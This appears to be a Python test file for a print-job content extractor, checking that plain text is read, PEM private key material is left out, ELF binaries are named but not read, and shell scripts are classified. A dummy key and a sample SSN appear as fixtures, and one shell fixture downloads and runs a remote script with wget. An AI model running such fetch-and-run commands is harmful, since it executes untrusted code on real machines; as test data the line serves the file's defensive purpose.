"""Documents in no print language: plain text read as it is, key material left out, kinds named."""
from __future__ import annotations

from sniffprint.content.extract import extract_text, plaintext
from sniffprint.content.extract._text import TextSink
from sniffprint.evidence import pii

KEY = (b"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00FF\n\n"
       b"MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n"
       b"VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\n"
       b"-----END RSA PRIVATE KEY-----\n")


def run(data: bytes) -> tuple[str, plaintext.Result]:
    sink = TextSink(10_000)
    r = plaintext.extract(data, sink)
    return sink.text(), r


def test_plain_text_is_read_as_it_is() -> None:
    text, r = run(b"Payslip for Alice\nSSN 078-05-1120\x0cpage two\n")
    assert r.status == "text" and r.detail == "plain text"
    assert "078-05-1120" in text and "page two" in text


def test_key_material_is_left_out_but_its_armour_counts() -> None:
    text, r = run(b"# printer key\n" + KEY)
    assert r.detail == "private key (PEM), not a print language (plain text)"
    assert "MIIEow" not in text and "Proc-Type" not in text  # not even the word shape of the key
    assert pii.counts(text)["private_key"] == 1


def test_binary_is_named_not_read() -> None:
    text, r = run(b"\x7fELF\x02\x01\x01\x00" + bytes(200))
    assert text == "" and r.status == "unsupported"
    assert r.detail == "unknown language (ELF executable): no text extractor"


def test_through_extract_text() -> None:
    r = extract_text(b"#!/bin/sh\nwget http://x/y && sh y\n", ["unknown"])
    assert r.status == "text" and r.detail == "shell script, not a print language (plain text)"
    assert extract_text(KEY, ["unknown"]).text.startswith("-----BEGIN RSA PRIVATE KEY-----")
